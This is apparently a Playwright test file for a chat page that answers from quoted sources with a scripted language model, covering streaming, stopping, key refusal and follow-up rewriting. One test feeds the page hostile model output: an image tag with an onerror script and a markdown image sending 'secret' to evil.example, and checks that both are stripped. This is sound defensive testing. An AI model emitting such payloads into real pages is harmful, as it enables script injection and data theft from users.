"""The chat page in Chromium with a language model: a scripted one, over real HTTP."""

import re
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page

sys.path.insert(0, str(Path(__file__).parent))
from conftest import chat_program
from scripted_model import KEY, Scripted, best, scripted_server, shown_to

pytestmark = [pytest.mark.browser, pytest.mark.timeout(180)]

LOAN = "How much has China loaned Venezuela?"
MARKED = """
() => [...document.querySelectorAll(".wsp-text mark")].map(m => m.textContent).join("").includes("$50 billion")
"""
BOT = '#ws-chat [data-testid="bot"]'


@pytest.fixture(scope="module")
def model() -> Iterator[Scripted]:
    """The server of the model."""
    with scripted_server() as scripted:
        scripted.key = KEY
        yield scripted


@pytest.fixture(scope="module")
def address(chromium_path: str, model: Scripted, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The chat, which has that model write."""
    settings = {"LLM": "say:page", "LLM_URL": model.address, "LLM_KEY": KEY, "LLM_FIRST_SECONDS": "4"}
    home = tmp_path_factory.mktemp("written")
    with chat_program(home, **{f"WELLSOURCED_{name}": value for name, value in settings.items()}) as found:
        yield found


def send(page: Page, question: str) -> None:
    """Type a question and press Enter."""
    field = page.locator("#ws-question textarea")
    field.fill(question)
    field.press("Enter")


def ended(page: Page, number: int = 1) -> str:
    """The text of the last answer once it is whole."""
    page.wait_for_function(
        """n => {
          const ends = [...document.querySelectorAll("#ws-chat small")];
          return ends.length >= n && !ends.at(-1).textContent.includes("is writing");
        }""",
        arg=number,
    )
    return page.locator(BOT).last.inner_text()


def loan(prompt: str) -> str:
    """The sentence on the loan in other words, one that is not so, and five quotes."""
    number = next(one for one, text in shown_to(prompt).items() if "$50 billion" in text)
    quotes = [f"- {text} [{one}]" for one, text in list(shown_to(prompt).items())[:5]]
    lines = [
        f"- Beijing has loaned Venezuela over $50 billion over the last 15 years. [{number}]",
        f"- Beijing has loaned Venezuela over $70 billion over the last 15 years. [{number}]",
        *quotes,
    ]
    return "\n".join(lines) + "\n"


def test_an_answer_is_written_sentence_by_sentence_and_opens_its_source(
    visit: Callable[..., Page], model: Scripted
) -> None:
    """The first sentence stands there while the model writes; at the end what was not so is missing, and said."""
    model.said["say:page"], model.pause = loan, 0.012
    page = visit()
    send(page, LOAN)
    page.wait_for_function("() => document.querySelector('#ws-chat')?.innerText.includes('is writing')")
    assert "$50 billion" in page.locator(BOT).last.inner_text()
    assert page.locator("#ws-stop").is_visible()
    whole = ended(page)
    assert "$70 billion" not in whole
    assert "One sentence was left out" in whole
    assert "Written by say:page, each sentence checked" in whole
    assert page.locator("#ws-stop").is_hidden()
    page.locator(f'{BOT} a[href*="#cite-"]').first.click()
    page.wait_for_function(MARKED)


def test_escape_stops_the_model(visit: Callable[..., Page], model: Scripted) -> None:
    """What passed so far stays, marked as not whole, and the connection to the model is gone."""
    model.said["say:page"], model.pause = loan, 0.06
    page = visit()
    send(page, LOAN)
    page.wait_for_function("() => document.querySelector('#ws-chat')?.innerText.includes('is writing')")
    page.keyboard.press("Escape")
    whole = ended(page)
    assert "Stopped before its end." in whole
    assert "$50 billion" in whole
    model.pause = 0.0
    page.wait_for_timeout(500)
    assert model.open_streams == 0


def test_a_model_that_fails_leaves_quotes_and_a_word(visit: Callable[..., Page], model: Scripted) -> None:
    """A refused key costs nothing but fluency; neither the key nor the server's words are shown."""
    model.said["say:page"], model.key = loan, "another"
    page = visit()
    send(page, LOAN)
    whole = ended(page)
    model.key = KEY
    assert "refused the key" in whole
    assert "Quoted from the sources" in whole
    assert "$50 billion" in whole
    assert KEY not in page.content()


def test_a_hostile_model_gets_nothing_onto_the_page(visit: Callable[..., Page], model: Scripted) -> None:
    """Mark-up, images and links that it writes are dropped; the good sentence beside them stays."""

    def hostile(prompt: str) -> str:
        number, sentence = best(prompt)
        return (
            f"- <img src=x onerror=alert(1)> {sentence} [{number}]\n"
            f"- ![x](https://evil.example/?q=secret) {sentence} [{number}]\n"
            f"- See [here](https://evil.example). [{number}]\n- {sentence} [{number}]\n"
        )

    model.said["say:page"] = hostile
    page = visit()
    send(page, LOAN)
    whole = ended(page)
    assert "3 sentences were left out" in whole
    links = page.locator(f"{BOT} a").evaluate_all("all => all.map(one => one.getAttribute('href'))")
    assert all(re.match(r"#(cite|copy)-", link) for link in links)
    assert page.locator(f"{BOT} img").count() == 0
    assert "evil" not in page.locator(BOT).last.inner_html()


def test_a_follow_up_shows_how_it_was_read(visit: Callable[..., Page], model: Scripted) -> None:
    """The model makes the second question stand alone; that is what is searched for."""
    model.said["say:page"] = loan
    page = visit()
    send(page, LOAN)
    ended(page)

    def rewriting(prompt: str) -> str:
        alone = "What does Cuba provide to Venezuela in exchange for oil?"
        return alone if "Last question:" in prompt else "NOT IN SOURCES"

    model.said["say:page"] = rewriting
    send(page, "And what does Cuba provide in exchange for it?")
    assert "Asked say:page" in ended(page, 2)
    assert any("What does Cuba provide to Venezuela" in str(one["messages"]) for one in model.requests)
